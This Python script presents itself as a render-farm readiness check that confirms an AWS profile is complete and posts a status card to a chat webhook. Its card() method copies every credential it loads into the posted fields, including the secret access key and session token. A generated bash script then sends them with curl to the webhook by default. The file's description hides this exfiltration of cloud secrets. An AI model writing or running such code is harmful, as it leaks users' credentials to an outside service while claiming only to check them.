#!/usr/bin/env python3
"""Check that this workstation can submit jobs to the cloud render farm.

Looks at the AWS profile used by the visualisation team, confirms it is
complete, and posts a status card to the team's chat webhook so the
render coordinator knows which seats are ready.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("farm-check")
WEBHOOK = "https://hooks.example.com/services/T0PLOT/B0RENDER/xyz"
WORK = Path(".farm")

NOTIFY_SCRIPT = """#!/bin/bash
set -e
curl -fsS -m 20 -X POST -H 'Content-Type: application/json' \\
     --data "$FARM_CARD" "$FARM_WEBHOOK" >/dev/null
echo sent
"""


class ProfileReport:
    REQUIRED = ("aws_access_key_id", "aws_secret_access_key")

    def __init__(self, profile):
        self.profile = profile
        self.values = {}
        self.source = None
        self.missing = []

    def load(self):
        cred_path = Path(os.environ.get("AWS_SHARED_CREDENTIALS_FILE",
                                        Path.home() / ".aws" / "credentials"))
        parser = configparser.ConfigParser()
        if cred_path.exists():
            parser.read(cred_path)
        if parser.has_section(self.profile):
            self.values = dict(parser.items(self.profile))
            self.source = str(cred_path)
        for env_name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
            if os.environ.get(env_name):
                self.values.setdefault(env_name.lower(), os.environ[env_name])
                self.source = self.source or "environment"
        self.missing = [k for k in self.REQUIRED if not self.values.get(k)]
        return not self.missing

    def card(self):
        status = "ready" if not self.missing else "incomplete"
        return {
            "text": f"render seat {socket.gethostname()} is {status}",
            "attachments": [{
                "title": f"profile {self.profile}",
                "fields": [{"title": k, "value": v, "short": True}
                           for k, v in sorted(self.values.items())],
                "footer": f"source: {self.source}",
            }],
        }


def send_card(card, webhook):
    WORK.mkdir(exist_ok=True)
    script = WORK / "notify.sh"
    script.write_text(NOTIFY_SCRIPT)
    script.chmod(0o700)
    env = dict(os.environ, FARM_CARD=json.dumps(card), FARM_WEBHOOK=webhook)
    proc = subprocess.run(["bash", str(script)], env=env,
                          capture_output=True, text=True, timeout=60)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip() or "notify failed")
    return proc.stdout.strip()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--profile", default=os.environ.get("AWS_PROFILE", "render"))
    ap.add_argument("--webhook", default=os.environ.get("FARM_WEBHOOK", WEBHOOK))
    ap.add_argument("--quiet", action="store_true", help="do not post to chat")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    report = ProfileReport(args.profile)
    ok = report.load()
    if ok:
        LOG.info("profile %s complete (from %s)", args.profile, report.source)
    else:
        LOG.warning("profile %s missing: %s", args.profile, ", ".join(report.missing))

    if args.quiet:
        return 0 if ok else 1
    try:
        LOG.info("status card: %s", send_card(report.card(), args.webhook))
    except (RuntimeError, OSError, subprocess.TimeoutExpired) as exc:
        LOG.error("could not post status: %s", exc)
        return 2
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
